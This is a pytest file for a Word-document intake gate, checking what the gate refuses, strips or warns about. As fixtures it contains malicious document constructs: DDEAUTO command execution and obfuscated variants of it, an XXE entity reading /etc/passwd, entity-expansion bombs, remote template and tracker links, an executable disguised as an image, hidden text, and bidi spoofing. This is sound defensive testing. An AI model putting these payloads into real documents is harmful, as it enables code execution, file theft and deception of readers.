"""Word documents at the gate: what is refused, what is taken out, what is warned of."""

from __future__ import annotations

import pytest

from shared.documents.gate.model import Limits
from shared.documents.gate.ziptable import read_members
from shared.documents.read.docx import read_docx
from shared.documents.read.text import text
from tests.unit.documents_gate.build import codes, copied, picture, removed, verdict
from tests.unit.documents_read.build import (
    docx,
    inserted,
    packed,
    paragraph,
    parts,
    relationship,
    run,
)

GOOD = paragraph("The parties agree.")


def field(instruction: str, result: str = "shown") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def copy_of(found) -> dict[str, bytes]:
    return {member.name: member.data for member in read_members(copied(found), Limits())}


def test_plain_document_is_accepted_with_nothing_taken_out():
    found = verdict(docx(GOOD))
    assert (found.decision, found.findings, found.removed) == ("accept", (), ())
    assert text(read_docx(copied(found))) == "The parties agree."


def test_working_copy_is_the_same_for_the_same_file_and_passes_again():
    first, second = verdict(docx(GOOD)), verdict(docx(GOOD))
    assert first.copy == second.copy
    again = verdict(copied(first))
    assert (again.decision, again.copy) == ("accept", first.copy)


@pytest.mark.parametrize(
    ("code", "body", "more"),
    [
        ("dde", paragraph(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), {}),
        ("dde", paragraph(f'<w:fldSimple w:instr="DDE x y">{run("a")}</w:fldSimple>'), {}),
        ("dde", paragraph(field(f"</w:instrText></w:r>{field('QUOTE 68 68 69')}<w:r><w:instrText> cmd")), {}),
        ("dde", paragraph(field("DD</w:instrText></w:r><w:r><w:instrText>E x")), {}),
        ("alt_chunk", GOOD + '<w:altChunk r:id="a"/>', {}),
    ],
)
def test_document_that_runs_or_pulls_in_is_refused_with_a_way_out(code, body, more):
    found = verdict(docx(body, **more))
    assert found.decision == "refuse"
    assert [reason.code for reason in found.reasons] == [code]
    assert found.reasons[0].way_out
    assert found.copy is None


def test_macros_are_refused_by_part_and_by_content_type():
    by_part = packed({**parts(GOOD), "word/vbaProject.bin": b"\xd0\xcf"})
    by_type = packed(parts(GOOD, main_type="application/vnd.ms-word.document.macroEnabled.main+xml"))
    assert codes(verdict(by_part)) == codes(verdict(by_type)) == {"macros"}


def test_template_and_other_office_files_are_refused_by_what_they_are():
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    assert codes(verdict(packed(parts(GOOD, main_type=kind)))) == {"template"}
    sheet = {**parts(GOOD), "xl/workbook.xml": b"<workbook/>"}
    found = verdict(packed(sheet))
    assert "Excel" in found.reasons[0].message


@pytest.mark.parametrize(
    "xml",
    [
        b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w/>',
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'.encode("utf-16"),
    ],
)
def test_entities_in_any_part_and_encoding_are_refused(xml):
    found = verdict(packed({**parts(GOOD), "word/extra.xml": xml}))
    assert codes(found) == {"doctype"}


def test_part_that_is_not_well_formed_is_refused_and_named():
    found = verdict(packed({**parts(GOOD), "word/document.xml": b"<w:document><oops></w:document>"}))
    assert codes(found) == {"bad_xml"}
    assert found.findings[0].place == "word/document.xml"


def test_external_template_is_taken_out_and_the_reference_with_it():
    members = parts(GOOD, settings='<w:attachedTemplate r:id="t"/>')
    target = relationship("t", "attachedTemplate", "https://evil.example/t.dotm", external=True)
    members["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{target}</Relationships>'
    ).encode()
    found = verdict(packed(members))
    assert found.accepted
    assert removed(found) == {"external_template"}
    everything = b"".join(copy_of(found).values())
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything


def test_picture_fetched_from_elsewhere_is_taken_out():
    drawing = '<w:r><w:drawing><a:blip r:link="p"/></w:drawing></w:r>'
    link = relationship("p", "image", "https://tracker.example/1.png", external=True)
    found = verdict(docx(paragraph("x", drawing), relationships=(link,)))
    assert removed(found) == {"external_link"}
    assert b"tracker" not in b"".join(copy_of(found).values())


def test_picture_address_in_an_old_drawing_is_taken_out():
    drawing = '<w:r><w:pict><v:shape><v:imagedata src="http://tracker.example/x" o:href="http://t.example"/></v:shape></w:pict></w:r>'
    found = verdict(docx(paragraph("x", drawing)))
    assert removed(found) == {"external_link"}
    assert b"t.example" not in b"".join(copy_of(found).values())


@pytest.mark.parametrize("address", ["file:///c:/x", "\\\\server\\share\\x", "javascript:x", "other.docx"])
def test_link_that_is_not_to_the_web_is_taken_out_and_its_words_stay(address):
    link = f'<w:hyperlink r:id="l">{run("click")}</w:hyperlink>'
    found = verdict(
        docx(paragraph(link), relationships=(relationship("l", "hyperlink", address, external=True),))
    )
    assert removed(found) == {"unsafe_link"}
    assert text(read_docx(copied(found))) == "click"


def test_web_link_stays():
    link = f'<w:hyperlink r:id="l">{run("law")}</w:hyperlink>'
    target = relationship("l", "hyperlink", "https://code.wvlegislature.gov/", external=True)
    found = verdict(docx(paragraph(link), relationships=(target,)))
    assert (found.decision, found.removed) == ("accept", ())


@pytest.mark.parametrize("name", ["INCLUDEPICTURE", "INCLUDETEXT", "LINK", "DATABASE"])
def test_field_that_fetches_becomes_its_text(name):
    found = verdict(docx(paragraph("a ", field(f' {name} "https://evil.example/x" \\d '), " b")))
    assert removed(found) == {"field"}
    assert text(read_docx(copied(found))) == "a shown b"
    assert b"evil.example" not in copy_of(found)["word/document.xml"]


def test_embedded_object_is_taken_out_its_picture_stays_and_the_reader_is_told():
    body = paragraph(
        '<w:r><w:object><v:shape><v:imagedata r:id="i"/></v:shape><o:OLEObject r:id="o"/></w:object></w:r>',
        "x",
    )
    members = parts(
        body,
        relationships=(
            relationship("o", "oleObject", "embeddings/a.bin"),
            relationship("i", "image", "media/i.png"),
        ),
    )
    members |= {"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0", "word/media/i.png": picture()}
    found = verdict(packed(members))
    assert found.decision == "accept_with_warnings"
    assert codes(found) == {"embedded_files"}
    kept = copy_of(found)
    assert "word/media/i.png" in kept
    assert "word/embeddings/a.bin" not in kept
    assert b"OLEObject" not in kept["word/document.xml"]


def test_part_that_nothing_uses_does_not_travel_on():
    found = verdict(packed({**parts(GOOD), "word/secret.xml": b"<x>draft</x>"}))
    assert removed(found) == {"orphan"}
    assert "word/secret.xml" not in copy_of(found)


def either(new: str, old: str) -> str:
    return (
        "<w:r><mc:AlternateContent>"
        f"<mc:Choice Requires='wps'><w:drawing><w:txbxContent>{paragraph(new)}</w:txbxContent></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><w:txbxContent>{paragraph(old)}</w:txbxContent></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r>"
    )


def test_text_for_old_programs_must_be_the_text_for_new_ones():
    assert verdict(docx(paragraph("x", either("Pay 10", "Pay 10")))).decision == "accept"
    assert codes(verdict(docx(paragraph("x", either("Pay 10", "Pay 1000"))))) == {"ambiguous"}


def test_document_with_two_bodies_or_two_main_parts_is_refused():
    two_bodies = parts(GOOD)
    two_bodies["word/document.xml"] = two_bodies["word/document.xml"].replace(
        b"</w:body>", b"</w:body><w:body><w:p/></w:body>"
    )
    two_mains = parts(GOOD)
    two_mains["_rels/.rels"] = two_mains["_rels/.rels"].replace(
        b"</Relationships>",
        relationship("r2", "officeDocument", "word/styles.xml").encode() + b"</Relationships>",
    )
    assert codes(verdict(packed(two_bodies))) == codes(verdict(packed(two_mains))) == {"ambiguous"}


def test_two_references_of_one_name_are_refused():
    doubled = (relationship("x", "image", "media/a.png"), relationship("x", "image", "media/b.png"))
    assert "ambiguous" in codes(verdict(docx(GOOD, relationships=doubled)))


def test_program_dressed_as_a_picture_is_refused():
    members = parts(GOOD, relationships=(relationship("i", "image", "media/i.png"),))
    found = verdict(packed({**members, "word/media/i.png": b"MZ\x90\x00" + bytes(50)}))
    assert codes(found) == {"disguised_part"}


def test_open_changes_comments_protection_and_hidden_text_are_warned_of():
    body = paragraph(
        "x", inserted("new"), run("secret", "<w:vanish/>"), run("pale", '<w:color w:val="FFFFFF"/>')
    )
    found = verdict(
        docx(
            body,
            comments=f'<w:comment w:id="0" w:author="B. Lee">{paragraph("Why?")}</w:comment>',
            settings='<w:documentProtection w:edit="readOnly"/>',
        )
    )
    assert found.decision == "accept_with_warnings"
    assert codes(found) == {"tracked_changes", "comments", "protected", "unseen_text"}
    messages = " ".join(finding.message for finding in found.findings)
    for fact in (
        "Tracked changes that nobody has accepted or rejected: 1 ",
        "Ana Ruiz",
        "B. Lee",
        "secret",
        "pale",
        "read only",
    ):
        assert fact in messages


def test_white_text_on_a_coloured_ground_is_no_warning():
    shaded = '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="003366"/>'
    assert verdict(docx(paragraph(run("Header", shaded)))).decision == "accept"


WHITE = '<w:color w:val="FFFFFF"/>'
PALE_STYLE = (
    f'<w:style w:type="paragraph" w:styleId="Pale"><w:name w:val="Pale"/><w:rPr>{WHITE}</w:rPr></w:style>'
)
PALE_TABLE = PALE_STYLE.replace('"paragraph" w:styleId="Pale"', '"table" w:styleId="PaleTable"')
DARK_TABLE = PALE_TABLE.replace(
    "</w:style>",
    '<w:tblStylePr w:type="firstRow"><w:tcPr><w:shd w:val="clear" w:fill="003366"/></w:tcPr></w:tblStylePr></w:style>',
)
IN_TABLE = (
    '<w:tbl><w:tblPr><w:tblStyle w:val="PaleTable"/></w:tblPr><w:tr><w:tc>{}</w:tc></w:tr></w:tbl><w:p/>'
)
IN_STYLE = '<w:p><w:pPr><w:pStyle w:val="Pale"/></w:pPr>{}</w:p>'
PLAIN_RUN = "<w:r><w:t>unseen words</w:t></w:r>"


def box(shape: str, text: str) -> str:
    """A text box of one white line; `shape` stands before its content in the drawing."""
    inside = f"<wps:txbx><w:txbxContent>{paragraph(run(text, WHITE))}</w:txbxContent></wps:txbx>"
    return paragraph("Beside", f"<w:r><w:drawing><wps:wsp>{shape}{inside}</wps:wsp></w:drawing></w:r>")


def fill(colour: str) -> str:
    return f'<wps:spPr><a:solidFill><a:srgbClr val="{colour}"/></a:solidFill></wps:spPr>'


@pytest.mark.parametrize(
    ("body", "styles"),
    [
        (IN_STYLE.format(PLAIN_RUN), PALE_STYLE),
        (IN_TABLE.format(f"<w:p>{PLAIN_RUN}</w:p>"), PALE_TABLE),
        (paragraph(PLAIN_RUN), f"<w:docDefaults><w:rPrDefault><w:rPr>{WHITE}</w:rPr></w:rPrDefault></w:docDefaults>"),
        (
            paragraph(PLAIN_RUN),
            "<w:docDefaults><w:rPrDefault><w:rPr><w:vanish/></w:rPr></w:rPrDefault></w:docDefaults>",
        ),
        (paragraph(run("unseen words", '<w:color w:val="FDFDFD"/>')), ""),
        (paragraph(run("unseen words", '<w:color w:val="auto" w:themeColor="background1"/>')), ""),
        (paragraph(run("unseen words", '<w:highlight w:val="black"/>')), ""),
        (paragraph(run("unseen words", '<w:color w:val="003366"/><w:shd w:val="clear" w:fill="003366"/>')), ""),
        (paragraph(run("unseen words", '<w:w w:val="1"/>')), ""),
        (paragraph(run("unseen words", '<w:sz w:val="2"/>')), ""),
        (box("", "unseen words"), ""),
        (box(fill("FFFFFF"), "unseen words"), ""),
    ],
    ids=["style", "table style", "defaults", "vanishing defaults", "nearly white", "theme", "blacked out",
         "in the colour of its ground", "narrow", "tiny", "text box", "white text box"],
)  # fmt: skip
def test_text_that_cannot_be_seen_is_warned_of_wherever_its_look_comes_from(body, styles):
    found = verdict(docx(body, styles=styles))
    [warning] = [finding for finding in found.findings if finding.code == "unseen_text"]
    assert "unseen words" in warning.message


@pytest.mark.parametrize(
    ("body", "styles"),
    [
        (IN_TABLE.format(f"<w:p>{PLAIN_RUN}</w:p>"), DARK_TABLE),
        (IN_STYLE.format(run("seen", '<w:color w:val="000000"/>')), PALE_STYLE),
        (paragraph(run("seen", '<w:highlight w:val="black"/>' + WHITE)), ""),
        (box(fill("003366"), "seen"), ""),
        (paragraph(run("seen", '<w:color w:val="auto" w:themeColor="background1" w:themeShade="80"/>')), ""),
    ],
    ids=["dark table style", "own colour over the style", "white on black", "dark text box", "shaded theme"],
)
def test_text_that_can_be_seen_is_no_warning_whatever_its_style(body, styles):
    assert verdict(docx(body, styles=styles)).decision == "accept"


def test_direction_controls_are_warned_of():
    assert codes(verdict(docx(paragraph("pay \u202e001$ now")))) == {"bidi_controls"}


def test_strict_document_is_told_apart_and_cleaned_before_conversion():
    members = {
        name: data.replace(
            b"http://schemas.openxmlformats.org/wordprocessingml/2006/",
            b"http://purl.oclc.org/ooxml/wordprocessingml/",
        )
        for name, data in parts(GOOD).items()
    }
    found = verdict(packed(members))
    assert [reason.code for reason in found.reasons] == ["strict"]
    assert text(read_docx(copied(found))) == "The parties agree."


def test_copy_of_a_document_keeps_every_word_of_every_story():
    body = paragraph("Body", '<w:r><w:footnoteReference w:id="2"/></w:r>')
    data = docx(body, footnotes=f'<w:footnote w:id="2">{paragraph("Note")}</w:footnote>')
    assert text(read_docx(copied(verdict(data)))) == text(read_docx(data)) == "Body[1]"


def test_main_part_must_exist():
    members = parts(GOOD)
    del members["word/document.xml"]
    assert codes(verdict(packed(members))) == {"no_main_part"}
